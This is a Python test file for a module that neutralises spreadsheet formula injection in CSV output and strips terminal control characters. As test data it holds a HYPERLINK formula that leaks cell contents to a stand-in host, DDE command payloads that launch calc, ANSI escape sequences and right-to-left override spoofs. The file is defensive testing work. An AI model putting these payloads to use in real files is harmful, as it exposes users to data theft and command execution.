"""Output is inert: CSV cells a spreadsheet would run are neutralised; terminals get no control."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interp.core.safe_output import (
    CONTROL_CHARACTERS,
    csv_text,
    escape_controls,
    neutralise_cell,
    strip_controls,
    table_text,
    unique_name,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(("cell", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-x", "'-x"),
    ("-", "'-"),
    ("-0.25", "-0.25"),
    ("+3e-05", "+3e-05"),
    ("-12", "-12"),
    ("Condition", "Condition"),
    ("a=b", "a=b"),
    ("", ""),
    (1.5, 1.5),
    (None, None),
])
def test_cells_a_spreadsheet_would_run_get_a_quote(cell, expected):
    assert neutralise_cell(cell) == expected


def test_csv_text_neutralises_text_cells_and_names_but_not_numbers():
    frame = pd.DataFrame({"concept": [HYPERLINK, "Role", None], "mean": [-0.5, 0.25, np.nan],
                          "layer": [0, 1, 2], "=cmd": ["x", "y", "z"]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["concept", "mean", "layer", "'=cmd"]
    assert rows[1] == ["'" + HYPERLINK, "-0.5", "0", "x"]
    assert rows[2] == ["Role", "0.25", "1", "y"]
    assert rows[3] == ["", "", "2", "z"]
    assert frame.loc[0, "concept"] == HYPERLINK, "the caller's frame is not changed"


@settings(deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=3))
def test_cells_holding_a_hash_survive_a_reader_that_skips_comments(texts):
    """A settings block asks readers for `read_csv(comment="#")`; no cell may be cut at its `#`."""
    frame = pd.DataFrame({"name#": texts, "share": np.arange(len(texts)) / 4})
    read = pd.read_csv(io.StringIO("# settings.a: 1\n" + csv_text(frame)), comment="#", keep_default_na=False,
                       dtype={"name#": str})
    assert list(read.columns) == ["name#", "share"] and len(read) == len(texts)
    assert list(read["name#"]) == [neutralise_cell(text) for text in texts]
    np.testing.assert_allclose(read["share"], frame["share"], rtol=1e-12)


def test_a_carriage_return_in_a_cell_is_quoted():
    """Python's CSV writer leaves a lone \r bare when lines end in \n; readers then split the row."""
    text = csv_text(pd.DataFrame({"name": ["a\rb", "c"], "share": [0.5, 1.0]}))
    assert text == 'name,share\n"a\rb",0.5\nc,1.0\n'
    assert list(pd.read_csv(io.StringIO(text))["name"]) == ["a\rb", "c"]


def test_a_lone_empty_cell_stays_a_row_when_hashes_are_quoted():
    text = csv_text(pd.DataFrame({"a#": ["", "x#"]}))
    assert text == '"a#"\n""\n"x#"\n'


@settings(deadline=None)
@given(st.text())
def test_no_csv_cell_starts_a_formula(text):
    rows = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"name": [text]})), newline="")))
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    if cell and cell[0] in "=+-@\t\r":
        assert cell[0] in "+-" and cell == text
        float(cell)  # only a number may start with a sign


def test_escape_makes_one_line_and_shows_what_was_there():
    assert escape_controls("a\nb\rc\td") == "a\\nb\\rc\\td"
    assert escape_controls("red \x1b[31m x \u202egnp.exe") == "red \\x1b[31m x \\u202egnp.exe"
    assert escape_controls("plain é ü 中") == "plain é ü 中"


def test_strip_removes_control_and_reordering_characters():
    assert strip_controls("\x1b[2J\x1b[31mRole\x1b[0m") == "[2J[31mRole[0m"
    assert strip_controls("abc\u202edcba\u2066x\u2069") == "abcdcbax"
    assert strip_controls("two\nlines\tand tab") == "two lines and tab"


@settings(deadline=None)
@given(st.text())
def test_escaped_and_stripped_text_has_no_control_left(text):
    assert not CONTROL_CHARACTERS.search(escape_controls(text))
    assert not CONTROL_CHARACTERS.search(strip_controls(text))
    assert "\n" not in escape_controls(text)


def test_table_text_strips_ansi_and_bidi_from_cells_and_names():
    frame = pd.DataFrame({"concept": ["\x1b[31mRed\x1b[0m", "abc\u202eevil"], "mean": [0.123456, -1.0]})
    frame["\x1b[1mbold"] = ["a", "b"]
    text = table_text(frame)
    assert all(not CONTROL_CHARACTERS.search(line) for line in text.splitlines()) and len(text.splitlines()) == 3
    assert "0.1235" in text and "[31mRed[0m" in text and "abcevil" in text


def test_unique_names_ignore_case():
    taken: set[str] = set()
    assert [unique_name(name, taken) for name in ("tokens-X", "tokens-x", "Tokens-x")] == [
        "tokens-X", "tokens-x-2", "Tokens-x-3"]
    assert taken == {"tokens-x", "tokens-x-2", "tokens-x-3"}
